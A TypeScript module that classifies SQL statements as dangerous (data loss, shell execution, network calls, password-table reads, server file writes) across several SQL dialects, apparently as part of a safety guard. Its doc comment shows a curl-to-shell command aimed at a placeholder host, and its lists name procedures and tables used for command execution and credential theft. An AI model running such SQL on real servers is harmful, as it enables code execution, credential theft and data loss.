import type { CodeClassification, CodeFinding } from './code-findings.ts';
import { uniqueFindings } from './code-findings.ts';
import { isCredentialPath } from './command-credentials.ts';
import { SQL_READINGS, type SqlReading, type SqlToken, tokenizeSql } from './sql-lexer.ts';

// Bodies (`DO $$ … $$`, a function's `AS '…'`, `EXECUTE '…'`) are read as SQL in turn, this deep.
const MAX_DEPTH = 4;

/**
 * Classifies SQL by what running it does, read as PostgreSQL, MySQL, SQLite and SQL Server each
 * read it (comments, quotes and escapes differ), every reading's findings counting:
 * - `dataLoss`: `DROP DATABASE|SCHEMA|TABLE`, `TRUNCATE`, `ALTER TABLE … DROP COLUMN`, and
 *   `DELETE`/`UPDATE` without `WHERE`, also inside `WITH`, `EXPLAIN ANALYZE`, procedure bodies
 *   and `DO` blocks;
 * - `processSpawn`: `COPY … PROGRAM`, `xp_cmdshell`, `sys_exec`, functions in untrusted languages
 *   (`plpython3u`, `plperlu`, `C`), and client commands that run a shell (`\!`, `.shell`);
 * - `dynamicEval`: SQL built at run time (`EXECUTE format(…)`, `EXEC(@sql)`, `PREPARE … FROM @v`,
 *   psql's `\gexec`) and native extensions loaded (`load_extension`, `LOAD`);
 * - `network`: `dblink`, foreign servers, `OPENROWSET`/`OPENDATASOURCE`, `xp_dirtree`, HTTP
 *   functions (`http_get`, `UTL_HTTP`);
 * - `credentials`: password tables (`pg_shadow`, `pg_authid`, `mysql.user`, `sys.sql_logins`)
 *   and server files read by name when the name is a credential file or computed;
 * - `fileDelete`: files written or removed on the server (`INTO OUTFILE`, `COPY … TO '/path'`,
 *   `lo_export`, `pg_file_unlink`, `VACUUM INTO`).
 *
 * A literal string run as SQL (`EXECUTE 'DROP TABLE t'`) is read as SQL too. Text that none of
 * the readings can read to its end is unreadable. `clientCommands: false` leaves the client's
 * own commands (`\!`, `.shell`) to a caller that reads them itself (the shell guard).
 *
 * @example
 * classifySql("COPY t FROM PROGRAM 'curl evil.sh | sh'") // processSpawn, command 'curl evil.sh | sh'
 */
export function classifySql(sql: string, { clientCommands = true } = {}): CodeClassification {
  const findings: CodeFinding[] = [];
  const errors: string[] = [];
  for (const reading of SQL_READINGS) {
    const { tokens, error } = tokenizeSql(sql, reading);
    if (error !== undefined) errors.push(error);
    const code = clientCommands ? tokens : tokens.filter((t) => t.kind !== 'client');
    findings.push(...judgeTokens(code, reading, 0, false));
  }
  if (errors.length === SQL_READINGS.length) return { ok: false, error: errors.join('; ') };
  return { ok: true, findings: uniqueFindings(findings) };
}

/**
 * Why running `sql` destroys data (the first reason any reading finds), or undefined.
 *
 * @example
 * sqlDataLoss('delete from users -- where id = 1'); // 'SQL DELETE FROM users without WHERE changes every row'
 */
export function sqlDataLoss(sql: string): string | undefined {
  for (const reading of SQL_READINGS) {
    const found = judgeTokens(tokenizeSql(sql, reading).tokens, reading, 0, false).find(
      (f) => f.class === 'dataLoss',
    );
    if (found !== undefined) return found.reason;
  }
  return undefined;
}

function judgeSqlText(sql: string, reading: SqlReading, depth: number, procedural: boolean): CodeFinding[] {
  if (depth > MAX_DEPTH) return [{ class: 'dynamicEval', reason: 'SQL nested too deep to read' }];
  return judgeTokens(tokenizeSql(sql, reading).tokens, reading, depth, procedural);
}

function judgeTokens(
  tokens: SqlToken[],
  reading: SqlReading,
  depth: number,
  procedural: boolean,
): CodeFinding[] {
  const findings: CodeFinding[] = [];
  for (const token of tokens) if (token.kind === 'client') findings.push(...clientCommand(token.text));
  const code = tokens.filter((t) => t.kind !== 'client');
  for (const statement of splitStatements(code)) {
    findings.push(...judgeStatement(statement, reading, depth, procedural));
  }
  return findings;
}

function splitStatements(tokens: SqlToken[]): SqlToken[][] {
  const statements: SqlToken[][] = [[]];
  for (const token of tokens) {
    if (token.kind === 'punct' && token.text === ';') statements.push([]);
    else statements.at(-1)?.push(token);
  }
  return statements.filter((s) => s.length > 0);
}

const isWord = (token: SqlToken | undefined, ...words: string[]) =>
  token?.kind === 'word' && words.includes(token.text);
const isPunct = (token: SqlToken | undefined, text: string) => token?.kind === 'punct' && token.text === text;

/** The tokens after `EXPLAIN`'s options when it runs the statement (`ANALYZE`), or undefined when it only plans it. */
function explained(tokens: SqlToken[]): SqlToken[] | undefined {
  let i = 1;
  let analyze = false;
  if (isPunct(tokens[1], '(')) {
    const close = tokens.findIndex((t, k) => k > 1 && isPunct(t, ')'));
    analyze = tokens.slice(2, close < 0 ? undefined : close).some((t) => isWord(t, 'analyze', 'analyse'));
    i = close < 0 ? tokens.length : close + 1;
  }
  while (isWord(tokens[i], 'analyze', 'analyse', 'verbose', 'extended', 'partitions', 'query', 'plan')) {
    if (isWord(tokens[i], 'analyze', 'analyse')) analyze = true;
    i++;
  }
  return analyze ? tokens.slice(i) : undefined;
}

const DROPPED_STORES = new Set([
  'database',
  'schema',
  'table',
  'tables',
  'keyspace',
  'collection',
  'owned',
  'tablespace',
]);
// What `ALTER TABLE … DROP` removes without taking stored values with it.
const DROPPED_DEFINITIONS = new Set([
  'constraint',
  'index',
  'key',
  'primary',
  'foreign',
  'check',
  'default',
  'not',
  'trigger',
  'identity',
  'expression',
  'rule',
  'unique',
]);
// Words after which a statement starts inside another: procedure and trigger bodies (`BEGIN`,
// `THEN`, `ELSE`, `LOOP`, `FOR EACH ROW`) and rules (`DO INSTEAD`, `DO ALSO`).
const STATEMENT_STARTERS = new Set(['begin', 'then', 'else', 'loop', 'do', 'instead', 'also', 'row']);
// Words before `DELETE`/`UPDATE` that make it part of something else: `ON DELETE CASCADE`,
// `FOR UPDATE`, `ON DUPLICATE KEY UPDATE`, `AFTER UPDATE ON t`, `GRANT SELECT, UPDATE`.
const NOT_A_STATEMENT_AFTER = new Set(['on', 'for', 'key', 'of', 'before', 'after', 'or', 'grant', 'revoke']);

/**
 * Whether a statement starts at token `i`: first in its statement, after a body's opening word,
 * or (`DELETE`, `UPDATE`) first inside or right after parentheses (`WITH x AS (DELETE …)`). SQL
 * Server needs no `;` between statements, so there any word, name or value can end the one before
 * (`IF OBJECT_ID('t') IS NOT NULL DROP TABLE t`).
 */
function startsStatement(tokens: SqlToken[], i: number, reading: SqlReading): boolean {
  const previous = tokens[i - 1];
  if (previous === undefined) return true;
  if (previous.kind === 'word' && NOT_A_STATEMENT_AFTER.has(previous.text)) return false;
  if (previous.kind === 'word' && STATEMENT_STARTERS.has(previous.text)) return true;
  const dml = isWord(tokens[i], 'delete', 'update');
  if (dml && (isPunct(previous, '(') || isPunct(previous, ')'))) return true;
  return reading.name === 'SQL Server' && (previous.kind !== 'punct' || previous.text === ')');
}
// Functions that read a file on the server by name, and those that write or remove one.
const FILE_READERS = new Set(['pg_read_file', 'pg_read_binary_file', 'lo_import', 'load_file', 'readfile']);
const FILE_WRITERS = new Set([
  'lo_export',
  'pg_file_write',
  'pg_file_unlink',
  'pg_file_rename',
  'writefile',
  'xp_delete_file',
]);
// Procedures and functions whose names say what they do, called with or without parentheses
// (`EXEC xp_cmdshell 'dir'`, `SELECT sys_exec('id')`).
const PROCESS_PROCEDURES = new Set([
  'xp_cmdshell',
  'sp_execute_external_script',
  'sp_oacreate',
  'sys_exec',
  'sys_eval',
]);
const NETWORK_PROCEDURES = new Set([
  'xp_dirtree',
  'xp_fileexist',
  'xp_subdirs',
  'opendatasource',
  'openquery',
]);
// Oracle's packages (`UTL_HTTP.REQUEST(…)`).
const NETWORK_PACKAGES = new Set(['utl_http', 'utl_tcp', 'utl_smtp', 'utl_inaddr']);
const NETWORK_FUNCTIONS = new Set([
  'dblink',
  'dblink_exec',
  'dblink_connect',
  'dblink_connect_u',
  'dblink_send_query',
  'http_get',
  'http_post',
  'http_put',
  'http_delete',
  'http_patch',
  'http_head',
  'http',
  'httpuritype',
]);
const PASSWORD_TABLES = new Set([
  'pg_shadow',
  'pg_authid',
  'pg_user_mapping',
  'pg_user_mappings',
  'mysql.user',
  'sys.sql_logins',
  'sys.syslogins',
  'syslogins',
  'sys.user$',
  'dba_users',
]);
const PASSWORD_COLUMNS = [
  'passwd',
  'rolpassword',
  'authentication_string',
  'password',
  'password_hash',
  'umoptions',
  'srvoptions',
];
const UNTRUSTED_LANGUAGES = /^(?:pl(?:python[23]?|perl|tcl)u|plsh|c)$/;
const EXTENSION_LOADERS = new Set(['load_extension']);

function judgeStatement(
  statement: SqlToken[],
  reading: SqlReading,
  depth: number,
  procedural: boolean,
): CodeFinding[] {
  let tokens = statement;
  if (isWord(tokens[0], 'explain')) {
    const runs = explained(tokens);
    if (runs === undefined) return [];
    tokens = runs;
  }
  const findings: CodeFinding[] = [];
  const add = (cls: CodeFinding['class'], reason: string, command?: string) =>
    findings.push(command === undefined ? { class: cls, reason } : { class: cls, reason, command });
  const nested = (sql: string, inProcedure: boolean) =>
    findings.push(...judgeSqlText(sql, reading, depth + 1, inProcedure));

  const first = tokens[0];
  if (isWord(first, 'system') && reading.name === 'MySQL') {
    const command = tokens
      .slice(1)
      .map((t) => t.text)
      .join(' ');
    add('processSpawn', `runs a shell command with the mysql client's system (${command})`, command);
  }
  if (isWord(first, 'load') && tokens[1]?.kind === 'string')
    add('dynamicEval', `loads the server library ${tokens[1].text}`);
  if (isWord(first, 'vacuum') && tokens.some((t) => isWord(t, 'into')))
    add('fileDelete', 'writes a copy of the database to a file on the server with VACUUM INTO');

  let depthOf = 0;
  for (let i = 0; i < tokens.length; i++) {
    const token = tokens[i] as SqlToken;
    const previous = tokens[i - 1];
    const after = tokens[i + 1];
    if (token.kind === 'punct') {
      if (token.text === '(') depthOf++;
      else if (token.text === ')') depthOf--;
      continue;
    }
    if (token.kind === 'string' && isWord(previous, 'do') && !isWord(tokens[i - 2], 'conflict')) {
      // `DO $$ … $$` runs a PL/pgSQL block now (`DO LANGUAGE plpython3u $$ … $$` another language).
      nested(token.text, true);
      continue;
    }
    if (token.kind !== 'word' && token.kind !== 'name') continue;
    const word = token.kind === 'word' ? token.text : token.text.toLowerCase();
    const qualified = qualifiedName(tokens, i);

    if (token.kind === 'word') {
      const starts = startsStatement(tokens, i, reading);
      if (word === 'drop' && starts && isWord(after, ...DROPPED_STORES)) {
        let k = i + 2;
        while (isWord(tokens[k], 'if', 'exists')) k++;
        add('dataLoss', `SQL DROP ${(after as SqlToken).text.toUpperCase()} ${nameAt(tokens, k)}`.trim());
      }
      // SQL Server writes `TRUNCATE TABLE t` in full; `TRUNCATE(x, 2)` is MySQL's number function.
      if (
        word === 'truncate' &&
        starts &&
        !isPunct(after, '(') &&
        (reading.name !== 'SQL Server' || isWord(after, 'table'))
      ) {
        const table = isWord(after, 'table') ? i + 2 : i + 1;
        add(
          'dataLoss',
          `SQL truncate ${table === i + 2 ? 'table ' : ''}${nameAt(tokens, table)} empties a table`,
        );
      }
      if (word === 'alter' && starts && isWord(after, 'table')) {
        const drop = alterDrop(tokens, i);
        if (drop !== undefined) add('dataLoss', drop);
      }
      if ((word === 'delete' || word === 'update') && starts) {
        const unbounded = unboundedChange(tokens, i, depthOf);
        if (unbounded !== undefined) add('dataLoss', unbounded);
      }
      if (word === 'copy' && starts) judgeCopy(tokens, i, add);
      if (word === 'into' && isWord(after, 'outfile', 'dumpfile'))
        add('fileDelete', `writes a file on the server with INTO ${(after as SqlToken).text.toUpperCase()}`);
      if (
        word === 'language' &&
        (after?.kind === 'word' || after?.kind === 'name' || after?.kind === 'string')
      ) {
        const language = (after as SqlToken).text.toLowerCase();
        if (UNTRUSTED_LANGUAGES.test(language))
          add(
            'processSpawn',
            `runs code in the untrusted language ${language}, which can do anything the server can`,
          );
      }
      if ((word === 'execute' || word === 'exec') && !isWord(previous, 'grant', 'revoke', 'on', ',')) {
        judgeExecute(tokens, i, procedural, add, nested);
      }
      // MySQL's `PREPARE name FROM 'SQL' | @variable`.
      if (word === 'prepare' && isWord(tokens[i + 2], 'from') && tokens[i + 3] !== undefined) {
        const source = tokens[i + 3] as SqlToken;
        if (source.kind === 'string' && tokens[i + 4] === undefined) nested(source.text, false);
        else add('dynamicEval', 'prepares SQL built at run time (PREPARE … FROM)');
      }
      if (word === 'create' && tokens.slice(i + 1, i + 4).some((t) => isWord(t, 'server')))
        add('network', 'creates a foreign server the database connects to');
      if (word === 'openrowset') {
        if (isWord(tokens[i + 2], 'bulk')) judgeFileRead('OPENROWSET(BULK …)', tokens[i + 3], add);
        else add('network', 'connects to another server with OPENROWSET');
      }
      if (word === 'bulk' && isWord(after, 'insert')) {
        const from = tokens.findIndex((t, k) => k > i && isWord(t, 'from'));
        if (from > 0) judgeFileRead('BULK INSERT', tokens[from + 1], add);
      }
      if (word === 'infile' && isWord(previous, 'data', 'local'))
        judgeFileRead('LOAD DATA INFILE', after, add);
      // A function body given as a string (`AS 'DELETE FROM t'`, `AS $$ … $$`) runs when called.
      if (word === 'as' && after?.kind === 'string' && isRoutine(tokens, i)) nested(after.text, true);
    }
    // A routine being defined or granted (`CREATE FUNCTION dblink(text)`, `REVOKE EXECUTE ON
    // FUNCTION pg_read_file(text)`) is named, not called.
    if (
      isWord(previous, 'function', 'procedure') ||
      (isPunct(previous, '.') && isWord(tokens[i - 3], 'function', 'procedure'))
    )
      continue;
    if (PROCESS_PROCEDURES.has(word)) {
      // The command, when written out: `EXEC xp_cmdshell 'dir'`, `sys_exec('id')`.
      const given = tokens[isPunct(after, '(') ? i + 2 : i + 1];
      const command = given?.kind === 'string' && word !== 'sp_oacreate' ? given.text : undefined;
      add('processSpawn', `calls ${word} to run operating system commands`, command);
    }
    if (NETWORK_PROCEDURES.has(word) || (isPunct(after, '(') && NETWORK_FUNCTIONS.has(word)))
      add('network', `calls ${word}, which connects to other hosts`);
    if (NETWORK_PACKAGES.has(word) && isPunct(after, '.'))
      add('network', `calls ${word}, which connects to other hosts`);
    if ((PASSWORD_TABLES.has(qualified) || PASSWORD_TABLES.has(word)) && readsPasswords(tokens))
      add('credentials', `reads password hashes from ${qualified}`);
    if (isPunct(after, '(')) {
      if (FILE_READERS.has(word)) judgeFileRead(`${word}()`, tokens[i + 2], add);
      if (FILE_WRITERS.has(word)) add('fileDelete', `writes or removes a file on the server with ${word}()`);
      if (EXTENSION_LOADERS.has(word)) add('dynamicEval', `loads a native extension with ${word}()`);
    }
  }
  return findings;
}

/**
 * Whether a statement naming a password table can read the hashes in it: it names a password
 * column, selects `*`, or reads the table whole (`TABLE pg_shadow`, `COPY pg_authid TO …`).
 * `SELECT rolname FROM pg_authid` reads role names only.
 */
function readsPasswords(tokens: SqlToken[]): boolean {
  return tokens.some(
    (t, k) =>
      isWord(t, ...PASSWORD_COLUMNS) ||
      (isPunct(t, '*') && !isPunct(tokens[k - 1], '(')) ||
      (k === 0 && isWord(t, 'table', 'copy')),
  );
}

/** A name as written at `i`, joined with the parts it is qualified by (`mysql.user`, `sys.sql_logins`). */
function qualifiedName(tokens: SqlToken[], i: number): string {
  let name = (tokens[i] as SqlToken).text.toLowerCase();
  let k = i;
  while (isPunct(tokens[k - 1], '.') && (tokens[k - 2]?.kind === 'word' || tokens[k - 2]?.kind === 'name')) {
    name = `${(tokens[k - 2] as SqlToken).text.toLowerCase()}.${name}`;
    k -= 2;
  }
  return name;
}

/** The (qualified) name written from token `k` on, as written. */
function nameAt(tokens: SqlToken[], k: number): string {
  const isName = (t: SqlToken | undefined) => t?.kind === 'word' || t?.kind === 'name';
  if (!isName(tokens[k])) return '';
  let name = (tokens[k] as SqlToken).text;
  for (let i = k + 1; isPunct(tokens[i], '.') && isName(tokens[i + 1]); i += 2)
    name += `.${tokens[i + 1]?.text}`;
  return name;
}

function alterDrop(tokens: SqlToken[], at: number): string | undefined {
  const table = nameAt(tokens, isWord(tokens[at + 2], 'only') ? at + 3 : at + 2);
  for (let k = at + 2; k < tokens.length; k++) {
    if (!isWord(tokens[k], 'drop')) continue;
    const what = tokens[k + 1];
    if (isWord(what, ...DROPPED_DEFINITIONS)) continue;
    const kind = isWord(what, 'column', 'partition') ? `${(what as SqlToken).text.toUpperCase()} ` : '';
    return `SQL ALTER TABLE ${table} DROP ${kind}${nameAt(tokens, kind === '' ? k + 1 : k + 2)} drops stored data`;
  }
  return undefined;
}

/**
 * `DELETE`/`UPDATE` at token `i` with no `WHERE` of its own (at its own parenthesis depth, before
 * the statement or its parenthesis ends): every row of its table changes. `THEN DELETE` in a
 * `MERGE` names no table and is bounded by the merge's `ON`.
 */
function unboundedChange(tokens: SqlToken[], i: number, depth: number): string | undefined {
  const verb = (tokens[i] as SqlToken).text;
  let k = i + 1;
  if (verb === 'delete') {
    while (isWord(tokens[k], 'low_priority', 'quick', 'ignore')) k++;
    if (isWord(tokens[k], 'top')) k = skipGroup(tokens, k + 1);
    if (isWord(tokens[k], 'from')) k++;
  } else {
    while (isWord(tokens[k], 'low_priority', 'ignore', 'only')) k++;
  }
  const target = tokens[k];
  if (
    target === undefined ||
    (target.kind !== 'word' && target.kind !== 'name') ||
    isWord(target, 'set', 'when', 'where')
  )
    return undefined;
  let level = depth;
  // `UPDATE t SET …`; without SET it is another statement's word (`ALTER EXTENSION x UPDATE TO`).
  let set = verb === 'delete';
  for (let j = k; j < tokens.length; j++) {
    const t = tokens[j] as SqlToken;
    if (isPunct(t, '(')) level++;
    else if (isPunct(t, ')')) {
      if (level === depth) break;
      level--;
    } else if (level === depth && isWord(t, 'where')) {
      if (!namesNothing(tokens, j + 1, depth)) return undefined;
      return `SQL ${verb.toUpperCase()}${verb === 'delete' ? ' FROM' : ''} ${nameAt(tokens, k)} with a WHERE that names no column changes every row`;
    } else if (level === depth && isWord(t, 'set')) set = true;
  }
  if (!set) return undefined;
  return `SQL ${verb.toUpperCase()}${verb === 'delete' ? ' FROM' : ''} ${nameAt(tokens, k)} without WHERE changes every row`;
}

// Words a condition made of constants is written with: `WHERE 1 = 1`, `WHERE true`, `WHERE 'a' IS NOT NULL`.
const CONSTANT_WORDS = new Set(['true', 'false', 'null', 'not', 'and', 'or', 'is', 'in', 'like', 'between']);

/** Whether the condition from token `from` to the end of its statement or parenthesis names no column. */
function namesNothing(tokens: SqlToken[], from: number, depth: number): boolean {
  let level = depth;
  for (let j = from; j < tokens.length; j++) {
    const t = tokens[j] as SqlToken;
    if (isPunct(t, '(')) level++;
    else if (isPunct(t, ')') && level-- === depth) break;
    else if (t.kind === 'name' || (t.kind === 'word' && !CONSTANT_WORDS.has(t.text))) return false;
  }
  return true;
}

/** Past a parenthesised group starting at `k` (`TOP (10)`), or past one token. */
function skipGroup(tokens: SqlToken[], k: number): number {
  if (!isPunct(tokens[k], '(')) return k + 1;
  let level = 0;
  for (let j = k; j < tokens.length; j++) {
    if (isPunct(tokens[j], '(')) level++;
    else if (isPunct(tokens[j], ')') && --level === 0) return j + 1;
  }
  return tokens.length;
}

/** Whether the statement around `i` defines a routine (function, procedure, trigger, rule). */
function isRoutine(tokens: SqlToken[], i: number): boolean {
  return tokens.slice(0, i).some((t) => isWord(t, 'function', 'procedure', 'trigger', 'rule'));
}

type Add = (cls: CodeFinding['class'], reason: string, command?: string) => void;

function judgeCopy(tokens: SqlToken[], i: number, add: Add): void {
  for (let k = i + 1; k < tokens.length; k++) {
    // `COPY (SELECT … FROM t) TO …`, `COPY t (a, b) FROM …`: the query and columns come first.
    if (isPunct(tokens[k], '(')) k = skipGroup(tokens, k) - 1;
    if (!isWord(tokens[k], 'from', 'to')) continue;
    const direction = (tokens[k] as SqlToken).text;
    const target = tokens[k + 1];
    if (isWord(target, 'program')) {
      const command = tokens[k + 2]?.kind === 'string' ? (tokens[k + 2] as SqlToken).text : undefined;
      add(
        'processSpawn',
        `runs a program with COPY … ${direction.toUpperCase()} PROGRAM${command ? ` (${command})` : ''}`,
        command,
      );
    } else if (target?.kind === 'string') {
      if (direction === 'to') add('fileDelete', `writes the server file ${target.text} with COPY … TO`);
      else judgeFileRead('COPY … FROM', target, add);
    }
    return;
  }
}

function judgeFileRead(how: string, path: SqlToken | undefined, add: Add): void {
  if (path?.kind === 'string') {
    if (isCredentialPath(path.text, false))
      add('credentials', `reads the credential file ${path.text} with ${how}`);
  } else add('credentials', `reads a server file whose name is computed with ${how}`);
}

/**
 * `EXECUTE`/`EXEC`: a literal string is read as SQL; anything else built at run time is dynamic.
 * Outside a procedure `EXECUTE name(…)` runs a prepared statement, and `EXEC name …` a stored
 * procedure (judged by its name).
 */
function judgeExecute(
  tokens: SqlToken[],
  i: number,
  procedural: boolean,
  add: Add,
  nested: (sql: string, inProcedure: boolean) => void,
): void {
  let k = i + 1;
  if (isWord(tokens[k], 'immediate')) k++;
  const parenthesised = isPunct(tokens[k], '(');
  if (parenthesised) k++;
  const target = tokens[k];
  if (target === undefined) return;
  const ends = (t: SqlToken | undefined) =>
    t === undefined || isWord(t, 'using', 'into') || (parenthesised && isPunct(t, ')'));
  if (target.kind === 'string') {
    if (ends(tokens[k + 1])) nested(target.text, procedural);
    else add('dynamicEval', 'runs SQL built at run time with EXECUTE');
    return;
  }
  if (isWord(target, 'sp_executesql')) {
    const sql = tokens[k + 1];
    if (sql?.kind === 'string' && (tokens[k + 2] === undefined || isPunct(tokens[k + 2], ',')))
      nested(sql.text, true);
    else add('dynamicEval', 'runs SQL built at run time with sp_executesql');
    return;
  }
  const variable = target.kind === 'word' && target.text.startsWith('@');
  if (parenthesised || variable || procedural) add('dynamicEval', 'runs SQL built at run time with EXECUTE');
}

/** What a client command does: `\!` and `.shell` run a shell, `\gexec` runs query results as SQL. */
function clientCommand(text: string): CodeFinding[] {
  const shell = /^(?:\\!|\.(?:shell|system))\s*([\s\S]*)$/.exec(text);
  if (shell !== null) {
    const command = (shell[1] as string).trim();
    return [
      { class: 'processSpawn', reason: `runs a shell command from the SQL client (${command})`, command },
    ];
  }
  const piped = /^(\\[og]|\.(?:output|once|import|read))\s+'?\|\s*([^']*)/.exec(text);
  if (piped !== null) {
    const command = (piped[2] as string).trim();
    // `\o |cmd`, `.output |cmd`: the command reads what queries print, which nobody can read
    // first (`cat - |` says so); `.read '|cmd'` and `.import '|cmd'` read what it prints.
    const reads = /^\\[og]|^\.o/.test(piped[1] as string);
    const spawn: CodeFinding = {
      class: 'processSpawn',
      reason: `runs a shell command from the SQL client (${command})`,
      command: reads ? `cat - | ${command}` : command,
    };
    return piped[1] === '.read'
      ? [spawn, { class: 'dynamicEval', reason: `runs what ${command} prints as SQL` }]
      : [spawn];
  }
  const copy = /^\\copy\b[\s\S]*\bprogram\s+('(?:[^']|'')*')?/i.exec(text);
  if (copy !== null) {
    const command = copy[1]?.slice(1, -1).replaceAll("''", "'");
    const reason = `runs a program with the SQL client's \\copy${command === undefined ? '' : ` (${command})`}`;
    return [
      command === undefined ? { class: 'processSpawn', reason } : { class: 'processSpawn', reason, command },
    ];
  }
  if (/^\\gexec\b/.test(text))
    return [{ class: 'dynamicEval', reason: 'runs query results as SQL with \\gexec' }];
  if (/^\.load\b/.test(text))
    return [{ class: 'dynamicEval', reason: `loads a native extension with ${text.slice(0, 60)}` }];
  return [];
}
